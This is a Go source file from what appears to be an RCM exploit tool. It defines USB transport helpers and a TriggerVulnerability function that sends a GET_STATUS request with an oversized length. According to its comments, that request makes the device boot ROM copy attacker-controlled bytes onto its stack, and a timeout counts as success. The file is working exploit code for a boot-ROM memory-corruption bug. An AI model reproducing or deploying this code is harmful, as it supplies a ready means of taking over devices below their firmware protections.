package rcm

import (
	"fmt"

	"github.com/golang/glog"

	"github.com/rcmhax/gelee/pkg/devices"
)

// Transport performs raw RCM I/O on a claimed device: fixed endpoints, fixed
// timeouts, no protocol state.
type Transport struct {
	Usb devices.Usb
	P   *Parameters
}

type TriggerOutcome int

const (
	// TriggerTimedOut means the control request never completed. The
	// vulnerable copy never hands control back to the USB stack when it
	// smashes the stack, so this is what success looks like.
	TriggerTimedOut TriggerOutcome = iota
	// TriggerCompleted means the device answered the request normally.
	TriggerCompleted
)

func (o TriggerOutcome) String() string {
	switch o {
	case TriggerTimedOut:
		return "timed out"
	case TriggerCompleted:
		return "completed"
	}
	return "UNKNOWN"
}

// Read bulk-reads up to length bytes from the RCM IN endpoint and returns
// what was actually received.
func (t *Transport) Read(length int) ([]byte, error) {
	buf := make([]byte, length)
	n, err := t.Usb.ReadBulk(t.P.EndpointIn, buf, t.P.TransferTimeout)
	if err != nil {
		return nil, fmt.Errorf("bulk read: %w", err)
	}
	return buf[:n], nil
}

// WriteSingleBuffer writes a single RCM buffer, which should be ChunkSize
// long. Only the last buffer of a transfer may be shorter.
func (t *Transport) WriteSingleBuffer(data []byte) (int, error) {
	n, err := t.Usb.WriteBulk(t.P.EndpointOut, data, t.P.TransferTimeout)
	if err != nil {
		return n, fmt.Errorf("bulk write: %w", err)
	}
	return n, nil
}

// TriggerVulnerability issues a GET_STATUS request to the endpoint
// recipient with an oversized length. The boot ROM does not validate it, and
// copies length bytes from the current DMA buffer onto its stack.
//
// A timeout is not an error: see TriggerTimedOut. Any other transfer error
// is.
func (t *Transport) TriggerVulnerability(length int) (TriggerOutcome, error) {
	rType := devices.RequestDirectionIn | devices.RequestTypeStandard | devices.RecipientEndpoint
	buf := make([]byte, length)
	glog.V(1).Infof("Triggering controlled memcpy of 0x%x bytes", length)
	_, err := t.Usb.Control(rType, devices.RequestGetStatus, 0, 0, buf, t.P.TransferTimeout)
	switch {
	case err == nil:
		return TriggerCompleted, nil
	case devices.IsTimeout(err):
		return TriggerTimedOut, nil
	default:
		return 0, fmt.Errorf("control: %w", err)
	}
}
